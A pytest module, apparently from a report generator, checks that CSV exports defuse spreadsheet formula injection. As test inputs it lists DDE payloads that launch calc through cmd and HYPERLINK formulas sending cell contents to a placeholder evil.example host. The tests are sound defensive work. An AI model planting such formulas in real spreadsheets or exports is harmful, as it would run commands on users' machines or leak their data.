"""Hostile corpus, fourth round: a spreadsheet that opens the comparison CSV runs no formula.

A spreadsheet evaluates a cell that begins with ``=``, ``+``, ``-``, ``@``, a tab or a
carriage return, and one whose locale separates cells with ``;`` (or ``|``, a tab) splits
the file's cells there, so ``Notes;=cmd|' /C calc'!A0`` is a DDE formula in its second
piece. A ``'`` (text, to a spreadsheet) is written wherever a cell could begin with a
trigger: at the start, after leading white space, after a character a locale may split on;
full-width forms (``＝``, ``；``) count as the ASCII ones.
"""

from __future__ import annotations

import csv
import io
import json
import sys
import unicodedata
from pathlib import Path

import pytest
from hostile_support import CLEAN_SYSTEM, make_records

from generator.outputs.export import export_csv
from generator.outputs.spreadsheet_cells import COMPATIBILITY_FORMS, SPLITTERS, TRIGGERS, inert_cell
from generator.pipeline import run_pipeline

TESTS = Path(__file__).resolve().parents[1]
CLEAN_PROFILE = TESTS / "fixtures" / "check" / "clean-memory-comparison-profile" / "records" / "demo"
SCOPE = '"Notes retained across runs and the route that reads them back."'
SCOPE_COLUMN = 4
DELIMITERS = (",", ";", "|", "\t")

# (the scope as written, the cell the CSV holds)
HOSTILE_SCOPES = [
    ("Notes;=cmd|' /C calc'!A0", "Notes;'=cmd|' /C calc'!A0"),  # DDE in a ';' locale's second cell
    ('Notes; =HYPERLINK("http://evil.example/?"&A1)', 'Notes;\' =HYPERLINK("http://evil.example/?"&A1)'),
    ("Notes|@SUM(1+1)*cmd|' /C calc'!A0", "Notes|'@SUM(1+1)*cmd|' /C calc'!A0"),
    ('＝HYPERLINK("http://evil.example")', '\'＝HYPERLINK("http://evil.example")'),  # full-width '='
    ("Notes；＋1+cmd|' /C calc'!A0", "Notes；'＋1+cmd|' /C calc'!A0"),  # full-width ';' and '+'
    ("  =1+1", "'  =1+1"),  # leading white space
    ("Notes \t -2+3", "Notes \t' -2+3"),  # a tab separates, then white space and a trigger
    ('Notes;"=1+1"', 'Notes;\'"=1+1"'),  # a quote between the separator and the trigger
    ("=1;=2", "'=1;'=2"),
    ("＠cmd", "'＠cmd"),
]


def _comparison_csv(tmp_path: Path, scope: str) -> str:
    files: dict[str, str | bytes | None] = {path.name: None for path in CLEAN_SYSTEM.iterdir()}
    files.update({path.name: path.read_text(encoding="utf-8") for path in CLEAN_PROFILE.iterdir()})
    profile = str(files["profile.yaml"])
    assert SCOPE in profile
    files["profile.yaml"] = profile.replace(SCOPE, json.dumps(scope, ensure_ascii=False), 1)
    records = make_records(tmp_path, files)
    return export_csv(run_pipeline(records, tmp_path))


def _evaluated(piece: str) -> bool:
    """Whether a spreadsheet would read a formula in a cell it split off."""
    return unicodedata.normalize("NFKC", piece).lstrip(' "').startswith(tuple(TRIGGERS + "\t\r"))


def _formula_cells(text: str, delimiter: str) -> list[str]:
    """The cells a reader splitting on ``delimiter`` would evaluate, quotes honoured or not."""
    honoured = [cell for row in csv.reader(io.StringIO(text), delimiter=delimiter) for cell in row]
    ignored = [cell for line in text.splitlines() for cell in line.split(delimiter)]
    return [cell for cell in honoured + ignored if _evaluated(cell)]


@pytest.mark.parametrize(("scope", "cell"), HOSTILE_SCOPES)
def test_no_locale_reads_a_formula_in_a_hostile_scope(tmp_path: Path, scope: str, cell: str) -> None:
    text = _comparison_csv(tmp_path, scope)
    assert list(csv.reader(io.StringIO(text)))[1][SCOPE_COLUMN] == cell
    for delimiter in DELIMITERS:
        assert _formula_cells(text, delimiter) == [], delimiter


def test_a_line_break_begins_a_cell_for_a_reader_of_lines(tmp_path: Path) -> None:
    text = _comparison_csv(tmp_path, "Notes\n@SUM(A1)")
    assert list(csv.reader(io.StringIO(text)))[1][SCOPE_COLUMN] == "Notes\n'@SUM(A1)"


@pytest.mark.parametrize(
    "cell", ["Notes retained", "a-b", "value=basis", "RTE-1 RTE-2", "50% of runs", "e-mail @ work", "x+y=z"]
)
def test_a_cell_where_no_formula_can_begin_is_written_as_it_is(cell: str) -> None:
    assert inert_cell(cell) == cell


def test_the_compatibility_forms_are_every_character_nfkc_folds_to_a_trigger_or_splitter() -> None:
    wanted: dict[str, str] = {}
    for code in range(sys.maxunicode + 1):
        char = chr(code)
        folded = unicodedata.normalize("NFKC", char)[:1]
        if folded != char and folded in TRIGGERS + SPLITTERS:
            wanted[folded] = wanted.get(folded, "") + char
    assert wanted == COMPATIBILITY_FORMS


RUN = 200_000


@pytest.mark.parametrize(
    ("cell", "marked"),
    [
        ("\t" * RUN + "=1", "'" + "\t" * RUN + "'=1"),
        (" " * RUN + "x=1", " " * RUN + "x=1"),
        ("; " * RUN + "=1", "; " * (RUN - 1) + ";' =1"),
        ('"' * RUN + "=1", "'" + '"' * RUN + "=1"),
    ],
    ids=["tabs", "spaces", "separators", "quotes"],
)
def test_a_long_run_before_a_trigger_is_scanned_once(cell: str, marked: str) -> None:
    # Each run of white space and quotes is one match: a run of tabs or separators
    # costs time linear in it (timings are benchmarks' business, not asserted here).
    assert inert_cell(cell) == marked
